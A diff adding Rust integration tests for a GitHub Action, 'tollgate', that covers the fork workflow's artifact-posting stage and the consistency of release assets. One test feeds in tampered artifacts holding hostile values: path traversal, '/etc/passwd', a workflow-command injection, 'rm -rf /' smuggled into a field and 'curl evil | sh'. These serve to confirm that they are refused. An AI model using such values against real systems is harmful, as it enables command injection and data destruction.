@@ -707,3 +707,439 @@ fn a_review_github_refuses_to_anchor_is_posted_with_the_comments_in_its_body() {
     assert_eq!(server.state().reviews.len(), 1);
     assert!(!run.stdout.contains("could not post"), "{}", run.stdout);
 }
+
+/// Stage 2 of the fork pattern: `INPUT_MODE=post` in a `workflow_run` job whose workspace holds
+/// only the downloaded artifact (in `tollgate-results/`), never a checkout.
+fn run_post(artifact: &Path, head_sha: &str, server: &FakeGitHub) -> ActionRun {
+    let results = tempfile::tempdir().unwrap();
+    let workspace = results.path().join("workspace");
+    let downloaded = workspace.join("tollgate-results");
+    std::fs::create_dir_all(&downloaded).unwrap();
+    for entry in std::fs::read_dir(artifact).unwrap() {
+        let entry = entry.unwrap();
+        std::fs::copy(entry.path(), downloaded.join(entry.file_name())).unwrap();
+    }
+    let template = std::fs::read_to_string(fixture("github/workflow_run.json")).unwrap();
+    let event_path = results.path().join("event.json");
+    std::fs::write(&event_path, template.replace("__HEAD_SHA__", head_sha)).unwrap();
+    let outputs_path = results.path().join("github_output");
+    let summary_path = results.path().join("step_summary.md");
+    let mut command = Command::new(action_bin());
+    for (key, _) in std::env::vars() {
+        if ["GITHUB_", "INPUT_", "TOLLGATE_", "CE_REVIEW_", "RUNNER_"]
+            .iter()
+            .any(|prefix| key.starts_with(prefix))
+        {
+            command.env_remove(key);
+        }
+    }
+    let output = command
+        .env("INPUT_MODE", "post")
+        .env("GITHUB_WORKSPACE", &workspace)
+        .env("GITHUB_EVENT_NAME", "workflow_run")
+        .env("GITHUB_EVENT_PATH", &event_path)
+        .env("GITHUB_REPOSITORY", REPOSITORY)
+        .env("GITHUB_SERVER_URL", "https://github.com")
+        .env("GITHUB_API_URL", server.url())
+        .env("GITHUB_OUTPUT", &outputs_path)
+        .env("GITHUB_STEP_SUMMARY", &summary_path)
+        .env("INPUT_GITHUB_TOKEN", TOKEN)
+        .env("INPUT_HEAD", "")
+        .env("TOLLGATE_RETRY_BASE_MS", "20")
+        .stdin(Stdio::null())
+        .output()
+        .expect("tollgate-action runs");
+    let read = |path: &Path| std::fs::read_to_string(path).unwrap_or_default();
+    ActionRun {
+        code: output.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
+        outputs: read(&outputs_path),
+        summary: read(&summary_path),
+        results,
+    }
+}
+
+/// Stage 1 on a fork's pull request: the artifact directory it leaves for stage 2.
+fn stage_one(pr: &PrRepo) -> ActionRun {
+    let server = server_for_pr();
+    let run = run_action(
+        pr,
+        "pull_request",
+        "pull_request_from_fork.json",
+        Some(&server),
+        &[],
+    );
+    run.assert_code(1);
+    assert!(
+        server.state().requests.is_empty(),
+        "stage 1 posts nothing: {:#?}",
+        server.state().requests
+    );
+    run
+}
+
+#[test]
+fn fork_stage_two_posts_the_stage_one_artifact_without_the_checkout() {
+    let pr = pr_repo();
+    let stage1 = stage_one(&pr);
+    let artifact = stage1.results.path().join("out");
+    let info: Value = serde_json::from_str(
+        &std::fs::read_to_string(artifact.join("tollgate-publish.json")).unwrap(),
+    )
+    .unwrap();
+    assert_eq!(info["schema"], "tollgate-publish/v1");
+    assert_eq!(info["repository"], REPOSITORY);
+    assert_eq!(info["pull_request"], 42);
+    assert_eq!(info["head_sha"], pr.head.as_str());
+    assert_eq!(
+        info["hunks"],
+        serde_json::json!({ CHANGED_FILE: [[17, 24]] }),
+        "half-open new-side ranges; the deleted file has none"
+    );
+    assert!(artifact.join("tollgate.json").is_file());
+
+    let server = server_for_pr();
+    server.state().pulls.insert(42, pr.head.clone());
+    let run = run_post(&artifact, &pr.head, &server);
+    // The gate failed in stage 1; stage 2 only posts.
+    run.assert_code(0);
+    let seen = requests(&server);
+    assert!(
+        seen.iter()
+            .any(|r| r.is("GET", "/repos/octo/repo/pulls/42"))
+    );
+    assert_eq!(count(&seen, "POST", ISSUE_COMMENTS), 1, "{seen:#?}");
+    let summary = &seen
+        .iter()
+        .find(|r| r.is("POST", ISSUE_COMMENTS))
+        .unwrap()
+        .body;
+    assert!(
+        summary["body"]
+            .as_str()
+            .unwrap()
+            .starts_with("<!-- tollgate:summary:v1 -->\n## ❌ Tollgate review failed")
+    );
+    assert_eq!(count(&seen, "POST", REVIEWS), 1);
+    let review = &seen.iter().find(|r| r.is("POST", REVIEWS)).unwrap().body;
+    assert_eq!(review["commit_id"], pr.head.as_str());
+    let comments = review["comments"].as_array().unwrap();
+    assert!(
+        comments.iter().any(|c| c["line"] == 20),
+        "the secret is commented on its line: {review:#}"
+    );
+    for comment in comments {
+        assert_eq!(comment["path"], CHANGED_FILE, "{comment:#}");
+        let line = comment["line"].as_u64().unwrap() as u32;
+        assert!(HUNK_LINES.contains(&line), "{comment:#}");
+    }
+    assert_eq!(count(&seen, "POST", CHECK_RUNS), 1);
+    let check = server.state().check_runs[0].clone();
+    assert_eq!(check["head_sha"], pr.head.as_str());
+    assert_eq!(check["conclusion"], "failure");
+    assert!(
+        check["output"]["annotations"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|a| a["path"] == DELETED_HOTSPOT)
+    );
+    assert!(
+        run.outputs.contains("should-fail=true\n"),
+        "{}",
+        run.outputs
+    );
+    assert!(run.outputs.contains("pull-request=42\n"), "{}", run.outputs);
+    assert!(run.summary.starts_with("<!-- tollgate:summary:v1 -->"));
+    assert!(!run.stdout.contains("could not post"), "{}", run.stdout);
+    assert!(!run.stdout.contains(TOKEN) && !run.stderr.contains(TOKEN));
+
+    // The pull request moved on (or the artifact names someone else's): only the check run,
+    // pinned to the commit GitHub named, is posted.
+    let moved = server_for_pr();
+    moved.state().pulls.insert(42, "f".repeat(40));
+    let run = run_post(&artifact, &pr.head, &moved);
+    run.assert_code(0);
+    let seen = requests(&moved);
+    assert_eq!(count(&seen, "POST", ISSUE_COMMENTS), 0, "{seen:#?}");
+    assert_eq!(count(&seen, "POST", REVIEWS), 0);
+    assert_eq!(count(&seen, "POST", CHECK_RUNS), 1);
+    assert!(run.outputs.contains("pull-request=\n"), "{}", run.outputs);
+    assert!(
+        run.stdout
+            .contains("::warning title=Tollgate could not post::pull request #42")
+    );
+}
+
+#[test]
+fn fork_stage_two_refuses_a_tampered_artifact_before_any_call() {
+    let pr = pr_repo();
+    let stage1 = stage_one(&pr);
+    let artifact = stage1.results.path().join("out");
+    let read = |name: &str| -> Value {
+        serde_json::from_str(&std::fs::read_to_string(artifact.join(name)).unwrap()).unwrap()
+    };
+    let (info, result) = (read("tollgate-publish.json"), read("tollgate.json"));
+    let other_sha = "e".repeat(40);
+
+    /// Edits the two JSON files, or (given the artifact directory) the files themselves.
+    type Tamper = Box<dyn Fn(&mut Value, &mut Value, Option<&Path>)>;
+    let cases: Vec<(&str, &str, Tamper)> = vec![
+        (
+            "a finding outside the repository",
+            "`../../x` is not a relative path inside the repository",
+            Box::new(|_, result, _| result["findings"][0]["location"]["file"] = "../../x".into()),
+        ),
+        (
+            "an absolute finding path",
+            "`/etc/passwd` is not a relative path",
+            Box::new(|_, result, _| {
+                result["findings"][0]["location"]["file"] = "/etc/passwd".into()
+            }),
+        ),
+        (
+            "absurd line numbers",
+            "lines 4000000000-4000000000 are not within",
+            Box::new(|_, result, _| {
+                result["findings"][0]["location"]["start_line"] = 4_000_000_000u32.into();
+                result["findings"][0]["location"]["end_line"] = 4_000_000_000u32.into();
+            }),
+        ),
+        (
+            "a hunk outside the repository",
+            "hunks: path `../../x` is not a relative path",
+            Box::new(|info, _, _| info["hunks"]["../../x"] = serde_json::json!([[1, 5]])),
+        ),
+        (
+            "an absurd hunk",
+            "is not a range of lines",
+            Box::new(|info, _, _| {
+                info["hunks"][CHANGED_FILE] = serde_json::json!([[1, 4_000_000_000u32]])
+            }),
+        ),
+        (
+            "a workflow command in a path",
+            "path `a\\n::set-output name=x::pwned` is not",
+            Box::new(|_, result, _| {
+                result["findings"][0]["location"]["file"] = "a\n::set-output name=x::pwned".into()
+            }),
+        ),
+        (
+            "a pull request number that is not one",
+            "does not have the tollgate-publish/v1 shape",
+            Box::new(|info, _, _| info["pull_request"] = "42; rm -rf /".into()),
+        ),
+        (
+            "an unknown field",
+            "does not have the tollgate-publish/v1 shape",
+            Box::new(|info, _, _| info["run"] = "curl evil | sh".into()),
+        ),
+        (
+            "another repository",
+            "is for repository `victim/repo`",
+            Box::new(|info, _, _| info["repository"] = "victim/repo".into()),
+        ),
+        ("another commit", "the artifact is about commit eeee", {
+            let other_sha = other_sha.clone();
+            Box::new(move |info, result, _| {
+                info["head_sha"] = other_sha.clone().into();
+                result["metadata"]["head_sha"] = other_sha.clone().into();
+            })
+        }),
+        (
+            "a result about another commit",
+            "tollgate.json is about head eeee",
+            Box::new(move |_, result, _| result["metadata"]["head_sha"] = "e".repeat(40).into()),
+        ),
+        (
+            "an oversized result",
+            "is 33554433 bytes, over the 33554432 accepted",
+            Box::new(|_, _, dir| {
+                // Valid JSON, padded past the 32 MiB limit: only the size refuses it.
+                if let Some(dir) = dir {
+                    let path = dir.join("tollgate.json");
+                    let mut bytes = std::fs::read(&path).unwrap();
+                    bytes.resize(32 * 1024 * 1024 + 1, b' ');
+                    std::fs::write(&path, bytes).unwrap();
+                }
+            }),
+        ),
+        (
+            "a missing result",
+            "the artifact has no tollgate.json",
+            Box::new(|_, _, dir| {
+                if let Some(dir) = dir {
+                    std::fs::remove_file(dir.join("tollgate.json")).unwrap();
+                }
+            }),
+        ),
+    ];
+    for (what, reason, tamper) in cases {
+        let dir = tempfile::tempdir().unwrap();
+        let (mut info, mut result) = (info.clone(), result.clone());
+        tamper(&mut info, &mut result, None);
+        std::fs::write(dir.path().join("tollgate-publish.json"), info.to_string()).unwrap();
+        std::fs::write(dir.path().join("tollgate.json"), result.to_string()).unwrap();
+        tamper(&mut info, &mut result, Some(dir.path()));
+        let server = server_for_pr();
+        server.state().pulls.insert(42, pr.head.clone());
+        let run = run_post(dir.path(), &pr.head, &server);
+        assert_eq!(
+            run.code, 2,
+            "{what}: exit code\nstdout:\n{}\nstderr:\n{}",
+            run.stdout, run.stderr
+        );
+        assert!(
+            server.state().requests.is_empty(),
+            "{what}: no call at all: {:#?}",
+            server.state().requests
+        );
+        let lines: Vec<&str> = run.stdout.lines().collect();
+        assert_eq!(lines.len(), 1, "{what}: {}", run.stdout);
+        assert!(
+            lines[0].starts_with(
+                "::error title=Tollgate could not run::the stage-1 artifact is refused"
+            ),
+            "{what}: {}",
+            run.stdout
+        );
+        assert!(lines[0].contains(reason), "{what}: {}", run.stdout);
+        assert!(
+            run.summary.is_empty(),
+            "{what}: nothing reaches the job summary"
+        );
+    }
+}
+
+fn yaml(relative: &str) -> (String, serde_yaml_ng::Value) {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("..")
+        .join(relative);
+    let text = std::fs::read_to_string(&path).unwrap();
+    let value = serde_yaml_ng::from_str(&text).unwrap();
+    (text, value)
+}
+
+/// `RUNNER_OS/RUNNER_ARCH` → the release asset and checksum file action.yml downloads, read
+/// from its install script.
+fn action_downloads() -> BTreeMap<String, (String, String)> {
+    let (_, action) = yaml("action/action.yml");
+    let script = action["runs"]["steps"][0]["run"].as_str().unwrap();
+    let asset_template = script
+        .lines()
+        .find_map(|line| line.trim().strip_prefix("asset=\""))
+        .and_then(|rest| rest.strip_suffix('"'))
+        .expect("an `asset=\"…\"` line");
+    assert!(
+        script.contains("\"$base_url/$asset\"") && script.contains("\"$base_url/$asset.sha256\""),
+        "the asset and `$asset.sha256` are downloaded:\n{script}"
+    );
+    let mut downloads = BTreeMap::new();
+    for line in script.lines().map(str::trim) {
+        let Some((runner, rest)) = line.split_once(')') else {
+            continue;
+        };
+        let Some(target) = rest
+            .trim()
+            .strip_prefix("target=")
+            .and_then(|rest| rest.split_whitespace().next())
+        else {
+            continue;
+        };
+        if target == "\"\"" {
+            continue; // the unmapped runners build from source
+        }
+        let asset = asset_template.replace("${target}", target);
+        downloads.insert(
+            runner.to_string(),
+            (asset.clone(), format!("{asset}.sha256")),
+        );
+    }
+    downloads
+}
+
+#[test]
+fn release_assets_are_the_ones_action_yml_downloads() {
+    let downloads = action_downloads();
+    let runners: Vec<&str> = downloads.keys().map(String::as_str).collect();
+    assert_eq!(
+        runners,
+        [
+            "Linux/ARM64",
+            "Linux/X64",
+            "Windows/X64",
+            "macOS/ARM64",
+            "macOS/X64"
+        ]
+    );
+
+    let (text, release) = yaml(".github/workflows/release.yml");
+    assert!(
+        release["on"]["push"]["tags"].as_sequence().is_some(),
+        "runs on tag pushes"
+    );
+    let build = &release["jobs"]["build"];
+    let asset_template = build["env"]["ASSET"].as_str().unwrap();
+    let steps = build["steps"].as_sequence().unwrap();
+    let scripts: Vec<&str> = steps.iter().filter_map(|s| s["run"].as_str()).collect();
+    let script_with = |needle: &str| scripts.iter().find(|s| s.contains(needle)).copied();
+    let package = script_with("tar -czf").expect("a packaging step");
+    assert!(
+        package.contains("tar -czf \"$ASSET\" -C \"$staging\" \"$exe\""),
+        "the binary sits at the archive's root, where action.yml extracts it:\n{package}"
+    );
+    assert!(package.contains("sha256sum \"$ASSET\" > \"$ASSET.sha256\""));
+    assert!(package.contains("shasum -a 256 \"$ASSET\" > \"$ASSET.sha256\""));
+    let upload = script_with("gh release upload").expect("an upload step");
+    assert!(upload.contains("\"$ASSET\" \"$ASSET.sha256\""), "{upload}");
+    // The executable names agree with the ones action.yml runs.
+    let (_, action) = yaml("action/action.yml");
+    let install = action["runs"]["steps"][0]["run"].as_str().unwrap();
+    assert!(
+        install.contains("exe=tollgate-action.exe") && package.contains("exe=tollgate-action.exe")
+    );
+
+    let mut produced = BTreeMap::new();
+    for entry in build["strategy"]["matrix"]["include"]
+        .as_sequence()
+        .unwrap()
+    {
+        let target = entry["target"].as_str().unwrap();
+        let os = entry["os"].as_str().unwrap();
+        let asset = asset_template.replace("${{ matrix.target }}", target);
+        produced.insert(asset.clone(), (format!("{asset}.sha256"), os.to_string()));
+    }
+    for (runner, (asset, checksum)) in &downloads {
+        let Some((produced_checksum, os)) = produced.get(asset) else {
+            panic!(
+                "{runner}: action.yml downloads {asset}, which release.yml does not build: {produced:?}"
+            );
+        };
+        assert_eq!(checksum, produced_checksum, "{runner}");
+        // Built on a runner of the same OS (cross-compiling macOS x86_64 on arm64 is fine).
+        let family = match runner.split('/').next().unwrap() {
+            "Linux" => "ubuntu",
+            "macOS" => "macos",
+            "Windows" => "windows",
+            other => panic!("unknown runner OS {other}"),
+        };
+        assert!(os.starts_with(family), "{runner}: {asset} is built on {os}");
+    }
+    assert_eq!(
+        produced.len(),
+        downloads.len(),
+        "release.yml builds nothing action.yml never downloads"
+    );
+
+    // Third-party actions are pinned by full commit, each pin naming its version.
+    for line in text.lines().filter(|line| line.contains("uses:")) {
+        let reference = line.split("uses:").nth(1).unwrap().trim();
+        let (_, rest) = reference.split_once('@').expect("a pinned ref");
+        let (sha, comment) = rest.split_once(" # v").unwrap_or((rest, ""));
+        assert!(
+            sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit()) && !comment.is_empty(),
+            "not pinned to a commit with a version comment: {line}"
+        );
+    }
+}
